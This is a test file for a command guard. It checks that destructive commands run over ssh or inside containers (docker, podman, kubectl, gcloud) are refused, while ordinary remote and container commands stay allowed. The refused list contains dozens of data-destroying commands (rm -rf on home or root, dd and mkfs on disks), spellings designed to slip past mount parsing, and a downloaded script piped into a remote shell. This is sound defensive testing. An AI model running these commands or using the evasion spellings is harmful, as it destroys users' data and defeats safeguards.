import { describe, expect, it } from "vitest";
import { checkCommand } from "./check.js";
import { resolveOptions } from "./options.js";

// Commands run in another place (issue #25): a remote host's command (`ssh host cmd`, run in the remote
// home; `ssh localhost` is this machine) and a container's (`docker run`/`exec`, podman, nerdctl, compose,
// `kubectl exec`/`run`/`debug`), with its bind mounts read as the host folders they are.
const guard = resolveOptions({}, { projectRoot: "/home/dev/project", home: "/home/dev" }).guard;
const refused = (command: string) => checkCommand(command, guard).violation !== undefined;

describe("a catastrophic command run on a remote host or in a container is refused", () => {
  it.each([
    "docker run -v $HOME:/h alpine sh -c 'cd /h && rm -rf *'",
    "docker run -v $HOME:/h -w /h alpine rm -rf .",
    "docker run -v /home/dev:/h alpine rm -rf /h/*",
    "docker run --rm -v /:/host alpine chroot /host rm -rf /home/dev",
    "docker run -v /var/run/docker.sock:/var/run/docker.sock docker docker run -v /:/h alpine rm -rf /h",
    "docker run --volumes-from c alpine rm -rf /data",
    "docker run --entrypoint rm -v $HOME:/h alpine -rf /h",
    "docker create -v $HOME:/h alpine rm -rf /h",
    "docker --context prod run -v $HOME:/h alpine rm -rf /h",
    "docker container run -v $HOME:/h alpine rm -rf /h",
    "docker run --mount type=bind,source=/home/dev,target=/h alpine rm -rf /h",
    "kubectl debug node/n -it --image=busybox -- chroot /host rm -rf /home/dev",
    "kubectl debug node/n -it --image=busybox -- rm -rf /host/home/dev",
    "ssh host rm -rf '~'",
    "ssh host 'rm -rf *'",
    "ssh host 'cd; rm -rf .'",
    "ssh host <<< 'rm -rf ~'",
    "ssh host bash -c \"'rm -rf ~'\"",
    "docker run --health-cmd 'rm -rf /h' -v $HOME:/h alpine",
    "docker run -v $HOME:/h alpine rm -rf /h",
    "docker exec c rm -rf /",
    "kubectl exec pod -- rm -rf /",
    "ssh localhost rm -rf ~",
    "ssh localhost 'rm -rf ~'",
    "docker run -v /dev:/dev alpine dd if=/dev/zero of=/dev/sda",
    "docker run --privileged alpine mkfs.ext4 /dev/sda",
    "docker run --rm -v \"$HOME\":/h busybox sh -c 'rm -rf /h/*'",
    "podman run -v /home/dev:/x img rm -rf /x",
    "nerdctl run -v /home/dev:/x img rm -rf /x",
    "echo 'rm -rf ~' | ssh host",
    "docker run -v $HOME:/tmp/h alpine rm -rf /tmp/h",
    "docker run -v $HOME:/tmp/h --health-cmd 'rm -rf /tmp/h' alpine",
    "ssh host 'rm -rf Documents'",
    "ssh host -- rm -rf ~",
    "ssh root@host -p 22 'rm -rf /'",
    "ssh host -p22 -l root 'rm -rf /'",
    "ssh host -o ProxyCommand='rm -rf ~' ls",
    "ssh host sh <<< 'rm -rf ~'",
    "echo 'rm -rf ~' | ssh host bash",
    "docker exec -i c sh <<< 'rm -rf /'",
    "docker run -i -v $HOME:/h alpine sh <<< 'rm -rf /h'",
    "gcloud compute ssh vm --command 'rm -rf ~'",
    "gcloud compute ssh vm --command='rm -rf ~'",
    "gcloud compute ssh vm -- rm -rf ~",
  ])("%s", (command) => {
    expect(refused(command)).toBe(true);
  });
});

// Attacks on the mount reading (textual: the command's spelling of the folder inside the container is
// replaced by the host folder's). Each reached the host's / or home while the reader saw a temp folder.
describe("a container command that reaches a host folder through a mount by another spelling is refused", () => {
  it.each([
    // The target spelled uncleanly in the option: Docker cleans it, the rewriting did not.
    "docker run -v /:/tmp/h/. alpine rm -rf /tmp/h",
    "docker run -v /:/tmp//h alpine rm -rf /tmp/h",
    "docker run -v /:/tmp/x/../h alpine rm -rf /tmp/h",
    // The target spelled uncleanly, or through its parent folder, in the command.
    "docker run -v /:/tmp/h alpine rm -rf /tmp//h",
    "docker run -v /:/tmp/h alpine rm -rf /tmp/./h",
    "docker run -v /:/tmp/h -w /tmp alpine rm -rf h",
    "docker run -v /:/tmp/h --workdir=/tmp alpine rm -rf ./h",
    "docker run -v /:/tmp/h alpine sh -c 'cd /tmp; rm -rf h'",
    "docker run -v /:/tmp/h alpine sh -c 'cd /; rm -rf tmp/h'",
    "docker run -v /:/tmp/h alpine sh -c 'x=/tmp; rm -rf $x/h'",
    "docker run -v /:/tmp/h alpine sh -c 'rm -rf ${TMPDIR:-/tmp}/h'",
    "docker run -v /:/tmp/h alpine sh -c 'rm -rf /tmp/*'",
    "docker run -v /:/tmp/h alpine rm -rf /tmp/h*",
    "docker run -v /:/tmp/h alpine sh -c 'rm -rf /tmp/[h]'",
    "docker run -v /:/tmp/h alpine sh -c 'rm -rf /tm\"\"p/h'",
    'docker run -v /:/tmp/h alpine sh -c "rm -rf /tmp/\\h"',
    "docker run -v /:/tmp/h --entrypoint sh alpine -c 'cd /tmp; rm -rf h'",
    "docker run -v /:/tmp/h --health-cmd 'cd /tmp; rm -rf h' alpine",
    "docker run -v /home/dev/project/a:/tmp/h alpine sh -c 'cd /tmp/h/..; rm -rf h'",
    // Mount fields read as read-only or not a bind when Docker writes through them.
    "docker run --mount type=bind,src=/,dst=/tmp/h,readonly=false alpine rm -rf /tmp/h",
    "docker run --mount type=bind,src=/,dst=/tmp/h,ro=0 alpine rm -rf /tmp/h",
    "docker run --mount type=BIND,src=/,dst=/tmp/h alpine rm -rf /tmp/h",
    "docker run --mount 'type=bind,\"src=/\",dst=/tmp/h' alpine rm -rf /tmp/h",
    "docker run --mount type=volume,dst=/tmp/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/ alpine rm -rf /tmp/h",
    "docker run -v /:/tmp/h:ro,rw alpine rm -rf /tmp/h",
    // A home folder spelled with a tilde, and a device mapped to another path.
    "docker run -v ~/:/tmp/h alpine rm -rf /tmp/h",
    "docker run --mount type=bind,src=~,dst=/tmp/h alpine rm -rf /tmp/h",
    "docker run --device /dev/sda:/tmp/d alpine dd if=/dev/zero of=/tmp/d",
    "docker run --device=/dev/sda:/tmp/d:rwm alpine mkfs.ext4 /tmp/d",
  ])("%s", (command) => {
    expect(refused(command)).toBe(true);
  });
});

// Input and verbs the first reading did not follow.
describe("a remote or container command fed a script, or named past kubectl's own options, is read", () => {
  it.each([
    // The remote shell (or a shell the remote command starts) reads a file the line wrote, or a download.
    "printf 'rm -rf ~\\n' > s.sh; ssh host < s.sh",
    "printf 'rm -rf ~\\n' > s.sh; ssh host bash < s.sh",
    "printf 'rm -rf ~\\n' > s.sh; ssh host 'sh; true' < s.sh",
    "printf 'rm -rf ~\\n' > s.sh; cat s.sh | ssh host",
    "curl -s https://x.example/i.sh | ssh host",
    "curl -s https://x.example/i.sh | ssh host bash",
    "printf 'rm -rf /\\n' > s.sh; docker exec -i c sh < s.sh",
    "printf 'rm -rf /\\n' > s.sh; cat s.sh | docker exec -i c sh",
    "printf 'rm -rf /\\n' > s.sh; kubectl exec -i pod -- sh < s.sh",
    "echo 'rm -rf /' | kubectl exec -i pod -- sh",
    "kubectl exec -i pod -- sh <<< 'rm -rf /'",
    // kubectl's verb after its own options, the older `exec pod cmd` form, `nodes/` for a node.
    "kubectl -n prod exec pod -- rm -rf /",
    "kubectl --namespace prod exec pod -- rm -rf /",
    "kubectl exec pod rm -rf /",
    "kubectl exec -c app pod rm -rf /",
    "kubectl debug nodes/n -it --image=busybox -- rm -rf /host/home/dev",
    "kubectl debug node/n -it --image=busybox -- sh -c 'cd /host; rm -rf home'",
    "gcloud compute ssh vm --flags-file=flags.yaml",
  ])("%s", (command) => {
    expect(refused(command)).toBe(true);
  });
});

describe("everyday remote and container commands stay allowed", () => {
  it.each([
    "ssh host uptime",
    "ssh -p 2222 deploy@host 'cd /srv/app && git pull && systemctl restart app'",
    "ssh host 'rm -rf /tmp/build'",
    "ssh host 'ls -la ~'",
    "ssh -N -L 8080:localhost:80 host",
    "ssh host <<< 'df -h'",
    "ssh -o StrictHostKeyChecking=no host 'docker ps'",
    "docker run --rm node:20 node -v",
    'docker run --rm -v "$PWD":/app -w /app node:20 npm test',
    'docker run --rm -v "$PWD":/app -w /app node:20 rm -rf node_modules',
    "docker run -d -p 5432:5432 -e POSTGRES_PASSWORD=x postgres:16",
    "docker run --rm -it ubuntu bash",
    "docker exec -it db psql -U postgres",
    "docker exec web ls /app",
    "docker compose run --rm web npm test",
    "docker compose exec db psql -U postgres",
    "docker compose up -d",
    "docker build -t x .",
    "docker ps -a",
    "kubectl exec -it pod -- ls /",
    "kubectl exec pod -c app -- cat /etc/hosts",
    "kubectl get pods",
    "kubectl run tmp --image=busybox --rm -it -- sh",
    "podman run --rm alpine echo hi",
    "docker run --rm -v $HOME/.cache:/cache alpine ls /cache",
    'docker run --rm -v "$PWD":/src -w /src golang go build ./...',
    "docker run --rm --entrypoint sh alpine -c 'echo hi'",
    "docker run -v $HOME:/h alpine",
    "ssh -n host sh <<< 'rm -rf ~'",
    "ssh host cat <<< 'rm -rf ~'",
    "docker exec c sh <<< 'rm -rf /'",
    "gcloud compute ssh vm --command 'uptime'",
    "gcloud compute instances list",
    // Read through the mount, the path inside the container is the host's /tmp.
    "docker run -v /tmp/x:/data alpine rm -rf /data/cache",
    "kubectl debug node/n -it --image=busybox -- rm -rf /host/tmp/cache",
    // Paths that cannot reach a mount: a sibling folder, inside the mount, a read-only mount.
    'docker run --rm -v "$PWD":/app -w /app node:20 sh -c "rm -rf dist && npm run build"',
    'docker run --rm -v "$PWD":/app -w /app node:20 npm ci --cache /tmp/npm',
    "docker run -v /tmp/x:/data alpine sh -c 'cd /data && rm -rf cache/*'",
    "docker run -v /:/tmp/h:ro alpine rm -rf /tmp/x",
    "docker run --mount type=bind,src=/,dst=/tmp/h,readonly alpine rm -rf /tmp/x",
    "docker run --device /dev/snd alpine aplay /tmp/a.wav",
    // Input that is data, or a script on disk (as `bash < deploy.sh` is here).
    "ssh host < deploy.sh",
    "cat deploy.sh | ssh host",
    "tar cz . | ssh host 'tar xz -C /srv/app'",
    "pg_dump db | ssh host 'psql db'",
    "ssh host 'cat > /srv/app/x' < local.txt",
    "docker exec -i db psql -U postgres < dump.sql",
    "cat dump.sql | docker exec -i db psql -U postgres",
    "kubectl exec -i db -- psql < dump.sql",
    "kubectl -n prod exec pod -- ls",
    "kubectl exec pod ls",
  ])("%s", (command) => {
    expect(refused(command)).toBe(false);
  });
});
